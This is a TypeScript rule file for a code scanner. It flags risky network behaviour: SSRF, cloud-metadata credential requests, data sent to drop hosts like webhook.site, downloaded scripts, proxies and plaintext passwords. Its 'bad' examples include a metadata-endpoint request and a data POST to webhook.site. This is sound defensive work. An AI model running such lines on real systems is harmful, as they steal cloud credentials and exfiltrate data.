import { origin } from '../model.ts'
import { hostOf, isDropHost, isMetadataHost } from '../paths.ts'
import type { Rule } from '../rule.ts'
import { comesFrom, startOf } from '../values.ts'
import { code, everywhere, isFalse, isRequested, option, python, says } from './ask.ts'
import { host } from './where.ts'

const private_ =
  /^(127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|169\.254\.|localhost$|0\.0\.0\.0|\[?::1|\[?f[cd]|.*\.(internal|local|corp|lan)$)/i

const programFile = /\.(pyw?|sh|bash|[cm]?js|ps1|bat|cmd|exe|msi|dll|so|dylib|jar|rb|pl|php|deb|rpm|apk|whl)$/i

/** Rules about whom a program talks to. */
export const networkRules: readonly Rule[] = [
  {
    id: 'network/metadata-service',
    languages: everywhere,
    type: 'secret',
    severity: 'critical',
    cwe: 'CWE-918',
    description: 'Asks the cloud machine for its own credentials.',
    recommendation: 'Use credentials that were granted to this program.',
    implies: ['connect', 'secrets'],
    match: { on: 'effect', kinds: ['connect'], when: effect => isMetadataHost(host(effect)) },
    examples: {
      bad: ["import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')"],
      good: ["import requests\nrequests.get('https://api.example.org/')"],
    },
  },
  {
    id: 'network/drop-host',
    languages: everywhere,
    type: 'exfiltration',
    severity: 'high',
    cwe: 'CWE-200',
    description: 'Connects to a service where data is dropped or picked up without a trace.',
    recommendation: 'Use a host that your organisation knows.',
    implies: ['connect'],
    match: { on: 'effect', kinds: ['connect'], when: effect => isDropHost(host(effect)) },
    examples: {
      bad: ["import requests\nrequests.post('https://webhook.site/x', data=d)"],
      good: ["import requests\nrequests.get('https://data.europa.eu/x.csv')"],
    },
  },
  {
    id: 'network/downloaded-program',
    languages: code,
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-494',
    description: 'Saves a program or a script that it fetches from the network, ready to be run.',
    recommendation: 'Download it by hand, read it, and keep the version that was read in the working folder.',
    implies: ['connect', 'write'],
    match: {
      on: 'calls',
      about: name => /urlretrieve$|\.(write|writelines|write_text|write_bytes|writeFile|writeFileSync)$/.test(name),
      find: (calls, { effects }) => {
        const saves = effects.some(({ kind, target }) => kind === 'write' && programFile.test(startOf(target)))
        return calls
          .filter(({ name, args }) =>
            name.endsWith('urlretrieve')
              ? programFile.test(startOf(args[1]))
              : saves && args.some(value => comesFrom(value, origin.download)),
          )
          .map(at => ({ at }))
      },
    },
    examples: {
      bad: [
        "import requests\nr = requests.get('https://x.org/a.py')\nwith open('a.py', 'w') as f:\n    f.write(r.text)",
        "import urllib.request\nurllib.request.urlretrieve('https://x.org/a', 'a.sh')",
      ],
      good: [
        "import requests\nr = requests.get('https://x.org/a.csv')\nwith open('a.csv', 'w') as f:\n    f.write(r.text)",
      ],
    },
  },
  {
    id: 'network/requested-host',
    languages: everywhere,
    type: 'network',
    severity: 'high',
    cwe: 'CWE-918',
    description:
      'Connects to an address that comes from a request, so that the sender chooses what this machine reaches.',
    recommendation: 'Choose among addresses that the program knows.',
    implies: ['connect'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: effect => {
        if (!isRequested(effect.target)) return false
        const start = startOf(effect.target)
        if (hostOf(`${start}/`) === null) return true
        // With `..` in it a path reaches every service of that host; a query stays a query.
        return start.includes('?')
          ? false
          : { severity: 'medium', message: 'The path of the address comes from a request.' }
      },
    },
    examples: {
      bad: [
        "import requests\nfrom flask import request\nrequests.get(request.args['url'])",
        "import requests\nfrom flask import request\nrequests.get('https://api.example.org/users/' + request.args['id'])",
        { language: 'javascript', code: 'app.get("/", (req, res) => { axios.get(req.query.url) })' },
      ],
      good: [
        "import requests\nfrom flask import request\nrequests.get('https://api.example.org/?q=' + request.args['q'])",
      ],
    },
  },
  {
    id: 'network/unknown-host',
    languages: code,
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-918',
    description: 'Connects to an address that is not known before the program runs.',
    recommendation: 'Write the host into the code, so that a reviewer sees it.',
    implies: ['connect'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: (effect, { program }) => {
        if (isRequested(effect.target) || host(effect) !== '') return false
        if (comesFrom(effect.target, origin.input | origin.environment | origin.download | origin.decoded)) return true
        const { target } = effect
        if (target.kind === 'text' || !comesFrom(target, origin.parameter)) return false
        // A parameter that stands for one address, unless somebody says another.
        if (
          target.kind === 'thing' &&
          program.assignments.some(
            ({ how, target: to, value }) => how === 'default' && to === target.name && /^https?:/.test(startOf(value)),
          )
        )
          return { severity: 'low' }
        // `urlopen` follows `file:` as well, so that an open address reads files too.
        return { severity: /urlopen|urlretrieve/.test(effect.call?.name ?? '') ? 'medium' : 'low' }
      },
    },
    examples: {
      bad: ['import requests, sys\nrequests.get(sys.argv[1])'],
      good: [
        "import requests\nrequests.get('https://x.org')",
        "import urllib.request\ndef load(url='https://x.org/a.csv'):\n    urllib.request.urlretrieve(url, 'a.csv')",
      ],
    },
  },
  {
    id: 'network/bare-address',
    languages: everywhere,
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-923',
    description: 'Connects to a bare address instead of a name.',
    recommendation: 'Use the name of a host that is known.',
    implies: ['connect'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: effect => /^\d{1,3}(\.\d{1,3}){3}$/.test(host(effect)) && !/^127\./.test(host(effect)),
    },
    examples: {
      bad: ["import requests\nrequests.get('http://203.0.113.7/x')"],
      good: ["import requests\nrequests.get('http://localhost:8000')"],
    },
  },
  {
    id: 'network/inside',
    languages: code,
    type: 'network',
    severity: 'low',
    cwe: 'CWE-918',
    description: 'Connects to a private address.',
    recommendation: 'Check that the sandbox is meant to reach it.',
    implies: ['connect'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: effect => private_.test(host(effect)) && !isMetadataHost(host(effect)),
    },
    examples: {
      bad: ["import requests\nrequests.get('http://localhost:8000')"],
      good: ["import requests\nrequests.get('https://example.org')"],
    },
  },
  {
    id: 'network/proxy',
    languages: ['python', 'javascript', 'typescript'],
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-441',
    description: 'Sends its requests through a proxy of its own, past the one that checks them.',
    recommendation: 'Use the network that the sandbox grants.',
    implies: ['connect'],
    match: {
      on: 'call',
      names: [
        'requests.*',
        'httpx.*',
        'urllib.request.ProxyHandler',
        'urllib3.ProxyManager',
        'socks.set_default_proxy',
        'axios',
        'axios.get',
        'axios.post',
        'socks-proxy-agent.SocksProxyAgent',
        'https-proxy-agent.HttpsProxyAgent',
      ],
      when: call =>
        /Proxy|socks/.test(call.name) ||
        ['proxies', 'proxy'].some(name => option(call, name) !== undefined && !isFalse(option(call, name))),
    },
    examples: {
      bad: ["import requests\nrequests.get('https://x.org', proxies={'http': 'http://10.0.0.1:80'})"],
      good: ["import requests\nrequests.get('https://x.org')"],
    },
  },
  {
    id: 'network/request',
    languages: everywhere,
    type: 'network',
    severity: 'low',
    cwe: 'CWE-923',
    description: 'Fetches something from the network.',
    recommendation: 'Grant the host, or put the data into the working folder.',
    implies: ['connect'],
    match: { on: 'effect', kinds: ['connect'], when: () => true },
    examples: {
      bad: ["import pandas as pd\npd.read_csv('https://example.org/a.csv')"],
      good: ["import pandas as pd\npd.read_csv('a.csv')"],
    },
  },
  {
    id: 'network/opens-page',
    languages: ['python', 'bash'],
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-601',
    description:
      'Opens a page in the browser of the person, outside of the sandbox and with all that they are logged in to.',
    recommendation: 'Print the address; whoever wants to see it can open it.',
    implies: ['connect'],
    match: {
      on: 'call',
      names: [
        'webbrowser.open',
        'webbrowser.open_new',
        'webbrowser.open_new_tab',
        'xdg-open',
        'open',
        'sensible-browser',
        'x-www-browser',
        'firefox',
        'chromium',
        'google-chrome',
      ],
      when: call =>
        call.name.startsWith('webbrowser.')
          ? !/^(file:|[^:]*\.(html?|pdf|svg|png)$|https?:\/\/(localhost|127\.))/i.test(startOf(call.args[0]))
          : call.args.some(value => /^(https?|ftp):\/\/(?!localhost|127\.)/i.test(startOf(value))),
    },
    examples: {
      bad: [
        "import webbrowser\nwebbrowser.open('http://prizes.example.net')",
        { language: 'bash', code: 'xdg-open https://prizes.example.net' },
      ],
      good: [
        "import webbrowser\nwebbrowser.open('report.html')",
        { language: 'bash', code: 'xdg-open report.pdf' },
        "open('http.txt').read()",
      ],
    },
  },
  {
    id: 'network/open-password',
    languages: python,
    type: 'secret',
    severity: 'medium',
    cwe: 'CWE-319',
    description: 'Sends a name and a password where anybody in between can read them.',
    recommendation: 'Use `https:`.',
    implies: ['connect', 'secrets'],
    match: {
      on: 'call',
      names: ['requests.get', 'requests.post', 'requests.put', 'requests.request', 'httpx.get', 'httpx.post'],
      when: call =>
        call.named.has('auth') && call.args.some(value => says(value, /^http:\/\/(?!localhost|127\.|\[?::1)/i)),
    },
    examples: {
      bad: ["import requests\nrequests.get('http://example.org/a', auth=(user, word))"],
      good: ["import requests\nrequests.get('https://example.org/a', auth=(user, word))"],
    },
  },
]
